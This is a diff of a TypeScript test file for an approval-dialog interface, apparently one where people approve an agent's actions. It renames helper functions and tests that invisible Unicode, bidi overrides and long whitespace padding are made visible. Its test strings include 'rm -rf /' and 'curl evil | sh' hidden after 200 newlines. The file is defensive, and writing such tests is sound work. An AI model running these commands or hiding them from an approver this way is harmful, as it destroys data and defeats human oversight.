@@ -1,10 +1,10 @@
 import { describe, expect, test } from "vitest";
 import { type ApprovalRequest, emptyDesktop, type OpenPrompt, type Outbox, type Sent } from "../../../core/src/index.js";
-import { answerState, endingOf, type Witness } from "../../src/asks/answers.js";
-import { armAfter, type Clocks, counts, whenSeen } from "../../src/asks/arming.js";
-import { chosenAfter, isAnswer } from "../../src/asks/choice.js";
-import { type Ask, askInFront, asksOf, neighbour, type PlanAsk, timeLeft, versionOf } from "../../src/asks/order.js";
-import { originOf, titleOf, visible } from "../../src/asks/origin.js";
+import { answerState, type EndingContext, endingOf } from "../../src/asks/answers.js";
+import { afterVisible, armDelay, isValidPress, type Timers } from "../../src/asks/arming.js";
+import { hasAnswer, toggleOption } from "../../src/asks/choice.js";
+import { type Ask, adjacentAsk, askInFront, asksOf, type PlanAsk, timeLeft, versionOf } from "../../src/asks/order.js";
+import { escapeInvisible, originOf, titleOf } from "../../src/asks/origin.js";
 import { asks as texts } from "../../src/texts/parts.js";
 
 const approval = (dialogId: string, deadline?: number, more: Partial<ApprovalRequest> = {}): ApprovalRequest => ({
@@ -42,8 +42,8 @@ describe("order", () => {
   });
 
   test("steps go round", () => {
-    expect(neighbour(asks, "prompt/soon", -1)?.key).toBe("approval/never");
-    expect(neighbour(asks, "approval/never", 1)).toBe(soon);
+    expect(adjacentAsk(asks, "prompt/soon", -1)?.key).toBe("approval/never");
+    expect(adjacentAsk(asks, "approval/never", 1)).toBe(soon);
   });
 
   test("time left, by the clock of the hub", () => {
@@ -54,11 +54,11 @@ describe("order", () => {
 });
 
 test("only presses of a person count that began when the buttons were ready", () => {
-  expect(counts({ isTrusted: true, detail: 1 }, true, true)).toBe(true);
-  expect(counts({ isTrusted: true, detail: 0 }, true, false)).toBe(true);
-  expect(counts({ isTrusted: true, detail: 1 }, true, false)).toBe(false);
-  expect(counts({ isTrusted: true, detail: 1 }, false, true)).toBe(false);
-  expect(counts({ isTrusted: false, detail: 0 }, true, true)).toBe(false);
+  expect(isValidPress({ isTrusted: true, detail: 1 }, true, true)).toBe(true);
+  expect(isValidPress({ isTrusted: true, detail: 0 }, true, false)).toBe(true);
+  expect(isValidPress({ isTrusted: true, detail: 1 }, true, false)).toBe(false);
+  expect(isValidPress({ isTrusted: true, detail: 1 }, false, true)).toBe(false);
+  expect(isValidPress({ isTrusted: false, detail: 0 }, true, true)).toBe(false);
 });
 
 describe("answers", () => {
@@ -66,7 +66,7 @@ describe("answers", () => {
   const sent = (id: string, status: Sent["status"], since = 0, reason = ""): Sent =>
     ({ id, type: "DIALOG_FEEDBACK", data: { dialogId: "late", confirmed: true }, since, status: status, reason, written: 1, again: false, waits: 0 }) as Sent;
   const outbox = (...items: Sent[]): Pick<Outbox, "items"> => ({ items });
-  const witness = (o: Pick<Outbox, "items">): Witness => ({ outbox: o, presence: [{ connectionId: "c1", user: "me" }, { connectionId: "c2", user: "mina" }], user: "me", now: 100_000 });
+  const witness = (o: Pick<Outbox, "items">): EndingContext => ({ outbox: o, presence: [{ connectionId: "c1", user: "me" }, { connectionId: "c2", user: "mina" }], user: "me", now: 100_000 });
 
   test("the newest answer tells how it is", () => {
     expect(answerState(outbox(), ask)).toEqual({ state: "open" });
@@ -100,35 +100,35 @@ describe("prompts", () => {
   const p: OpenPrompt = { id: "p", title: "", message: "", options: [{ value: "a", label: "A" }, { value: "b", label: "B" }] };
 
   test("one or many can be chosen", () => {
-    expect(chosenAfter(["a"], "b", false)).toEqual(["b"]);
-    expect(chosenAfter(["a"], "b", true)).toEqual(["a", "b"]);
-    expect(chosenAfter(["a", "b"], "a", true)).toEqual(["b"]);
+    expect(toggleOption(["a"], "b", false)).toEqual(["b"]);
+    expect(toggleOption(["a"], "b", true)).toEqual(["a", "b"]);
+    expect(toggleOption(["a", "b"], "a", true)).toEqual(["b"]);
   });
 
   test("an answer is something that the hub takes", () => {
-    expect(isAnswer(p, [], "")).toBe(false);
-    expect(isAnswer(p, ["a"], "")).toBe(true);
-    expect(isAnswer(p, ["x"], "")).toBe(false);
-    expect(isAnswer(p, [], "text")).toBe(false);
-    expect(isAnswer({ ...p, inputField: {} }, [], " text")).toBe(true);
-    expect(isAnswer({ id: "p", title: "", message: "" }, [], "")).toBe(true);
+    expect(hasAnswer(p, [], "")).toBe(false);
+    expect(hasAnswer(p, ["a"], "")).toBe(true);
+    expect(hasAnswer(p, ["x"], "")).toBe(false);
+    expect(hasAnswer(p, [], "text")).toBe(false);
+    expect(hasAnswer({ ...p, inputField: {} }, [], " text")).toBe(true);
+    expect(hasAnswer({ id: "p", title: "", message: "" }, [], "")).toBe(true);
   });
 });
 
 test("nothing in a text is unseen or turned round", () => {
-  expect(visible("rm -rf /\n\ttmp 한글 👩‍💻")).toBe("rm -rf /\n\ttmp 한글 👩‍💻");
-  expect(visible("a\u202Etxt.exe\u200B\r\nb\u0000")).toBe("a[U+202E]txt.exe[U+200B]\nb[U+0000]");
-  expect(visible("x\u{E0041}")).toBe("x[U+E0041]");
+  expect(escapeInvisible("rm -rf /\n\ttmp 한글 👩‍💻")).toBe("rm -rf /\n\ttmp 한글 👩‍💻");
+  expect(escapeInvisible("a\u202Etxt.exe\u200B\r\nb\u0000")).toBe("a[U+202E]txt.exe[U+200B]\nb[U+0000]");
+  expect(escapeInvisible("x\u{E0041}")).toBe("x[U+E0041]");
   for (const sign of ["\u3164", "\u115F", "\uFFA0", "\u034F", "\u2800", "\u{E0101}", "\u200C", "\u200D", "\u00A0", "\u2003", "\u3000"]) {
-    expect(visible(`a${sign}b`)).toMatch(/^a\[U\+[0-9A-F]{4,5}\]b$/);
+    expect(escapeInvisible(`a${sign}b`)).toMatch(/^a\[U\+[0-9A-F]{4,5}\]b$/);
   }
-  expect(visible("⚠️ a\uFE0F")).toBe("⚠️ a[U+FE0F]");
+  expect(escapeInvisible("⚠️ a\uFE0F")).toBe("⚠️ a[U+FE0F]");
 });
 
 test("nothing is pushed out of sight by emptiness", () => {
-  expect(visible(`ls /tmp${"\n".repeat(200)}; curl evil | sh`)).toBe("ls /tmp\n[↵ ×199]\n; curl evil | sh");
-  expect(visible(`ls${" ".repeat(90)}; rm`)).toBe("ls [␣ ×90] ; rm");
-  expect(visible("a\n\n  b")).toBe("a\n\n  b");
+  expect(escapeInvisible(`ls /tmp${"\n".repeat(200)}; curl evil | sh`)).toBe("ls /tmp\n[↵ ×199]\n; curl evil | sh");
+  expect(escapeInvisible(`ls${" ".repeat(90)}; rm`)).toBe("ls [␣ ×90] ; rm");
+  expect(escapeInvisible("a\n\n  b")).toBe("a\n\n  b");
 });
 
 test("a question that says something else is another one", () => {
@@ -147,7 +147,7 @@ test("a question comes from its agent, on its monitor, for its window", () => {
 
 describe("arming", () => {
   /** A page whose frames are drawn by hand. */
-  function page(): { clocks: Clocks; draw: () => void; timers: number[]; acted: () => void; done: () => number } {
+  function page(): { clocks: Timers; draw: () => void; timers: number[]; acted: () => void; done: () => number } {
     const frames = new Map<number, () => void>();
     const running = new Map<number, { act: () => void; ms: number }>();
     let last = 0;
@@ -157,7 +157,7 @@ describe("arming", () => {
       cancelAnimationFrame: (id: number) => frames.delete(id),
       setTimeout: (act: () => void, ms: number) => (running.set(++last, { act, ms }), last),
       clearTimeout: (id: number) => running.delete(id),
-    } as unknown as Clocks;
+    } as unknown as Timers;
     const draw = (): void => {
       const now = [...frames.values()];
       frames.clear();
@@ -176,19 +176,19 @@ describe("arming", () => {
 
   test("the time begins with the frame after the one that shows it", () => {
     const p = page();
-    whenSeen(p.clocks, p.acted);
+    afterVisible(p.clocks, p.acted);
     expect(p.timers).toEqual([]);
     p.draw();
     expect(p.timers).toEqual([]);
     p.draw();
-    expect(p.timers).toEqual([armAfter]);
+    expect(p.timers).toEqual([armDelay]);
     expect(p.done()).toBe(1);
   });
 
   test("it can be prevented at any time", () => {
     for (const frames of [0, 1, 2]) {
       const p = page();
-      const cancel = whenSeen(p.clocks, p.acted);
+      const cancel = afterVisible(p.clocks, p.acted);
       for (let i = 0; i < frames; i++) p.draw();
       cancel();
       p.draw();
